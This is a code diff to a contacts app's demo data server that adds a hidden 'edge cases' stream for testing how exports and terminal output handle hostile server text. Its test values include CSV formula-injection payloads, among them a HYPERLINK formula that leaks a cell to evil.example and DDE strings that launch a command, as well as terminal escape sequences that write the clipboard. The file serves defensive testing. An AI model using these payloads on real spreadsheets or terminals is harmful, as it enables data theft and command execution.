@@ -95,9 +95,71 @@ STREAMS: tuple[DemoStream, ...] = (
 # `cl-size-N` names a list of N rows on any demo stream: tests pick exact sizes with it.
 SIZED_LIST = re.compile(r"^cl-size-(\d{1,8})$")
 
+# Values aimed at the edges, where server text leaves the app: spreadsheet formulas (with the
+# tricks that hide them: a leading TAB or CR), line breaks that could end a CSV row, terminal
+# escapes (SGR, OSC 0 title, OSC 52 clipboard, BEL, a C1 CSI), bidi controls, DEL and a lone
+# surrogate (sent as the JSON escape \ud800). Plain phone numbers are there to stay untouched.
+EDGE_VALUES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+2",
+    "\r=1+2",
+    'one\rtwo,"three",four',
+    "one\ntwo,three",
+    "one\r\ntwo",
+    "\x1b[31mred\x1b[0m \x1b]0;owned title\x07 \x1b]52;c;ZXZpbA==\x07 bell\x07",
+    "\x9b2J C1 CSI",
+    "\u202eevil-rtl \u2066isolate\u2069",
+    "lone \ud800 surrogate",
+    "DEL \x7f here",
+    "+44 20 7946 0958",
+    "(201) 555-0100",
+)
+# A stream the picker does not list (tests and `--stream st-demo-edges` reach it): every row
+# carries EDGE_VALUES. Its directory has one contact per value; its list has 41 rows.
+EDGE_STREAM = DemoStream(
+    "st-demo-edges",
+    "Edge cases (demo)",
+    len(EDGE_VALUES),
+    (DemoList("cl-demo-edges", "Edge \x1b]0;title\x07[red]cases[/] \u202elist", 41, "=cmd|' /C calc'!A0"),),
+)
+
 
 def find_stream(stream_id: str) -> DemoStream | None:
+    if stream_id == EDGE_STREAM.id:
+        return EDGE_STREAM
     return next((s for s in STREAMS if s.id == stream_id), None)
+
+
+def edge_directory_contact(index: int) -> dict[str, Any]:
+    value = EDGE_VALUES[index % len(EDGE_VALUES)]
+    return {
+        "id": f"edge-contact-{index}",
+        "firstName": value,
+        "lastName": f"Edge {index}",
+        "fullName": value,
+        "cellPhone": {"extension": "+1", "phoneNumber": f"+1555{index:07d}", "countryCode": "+1"},
+        "status": value,
+        "createdAt": _iso(index * 3_600),
+        "updatedAt": _iso(index * 3_600 + 60),
+    }
+
+
+def edge_list_contact(size: int, index: int) -> dict[str, Any]:
+    value = EDGE_VALUES[index % len(EDGE_VALUES)]
+    phone = value if index % 10 == 9 else f"1555{index % len(EDGE_VALUES):07d}"
+    contact: dict[str, Any] = {
+        "_id": f"edge-{index}",
+        "createdAt": _iso(index * 60),
+        "updatedAt": _iso(index * 60 + 1),
+        "phoneNumber": phone,
+        "note": value,
+    }
+    if index == 0:  # a field name is server text too: it becomes a CSV header
+        contact["=SUM(A1:A9)"] = "header"
+    return contact
 
 
 def find_list(stream: DemoStream, list_id: str) -> DemoList | None:
@@ -152,6 +214,8 @@ def directory_phone(stream_id: str, index: int) -> str:
 
 
 def directory_contact(stream: DemoStream, index: int) -> dict[str, Any]:
+    if stream is EDGE_STREAM:
+        return edge_directory_contact(index)
     rnd = random.Random(f"{stream.id}:dir:{index}")
     first, last = rnd.choice(FIRST_NAMES), rnd.choice(LAST_NAMES)
     created = index * 3_607 + rnd.randrange(3_600)
@@ -182,6 +246,8 @@ def directory_contact(stream: DemoStream, index: int) -> dict[str, Any]:
 
 
 def list_contact(stream: DemoStream, lst: DemoList, index: int) -> dict[str, Any]:
+    if stream is EDGE_STREAM:
+        return edge_list_contact(lst.size, index)
     created = index * 13 + (hash_int(lst.id) % 1000)  # a million rows span ~5 months
     if stream.directory_size and index % 3 == 0:
         # A third of each list's numbers belong to directory contacts, so lookups find both.
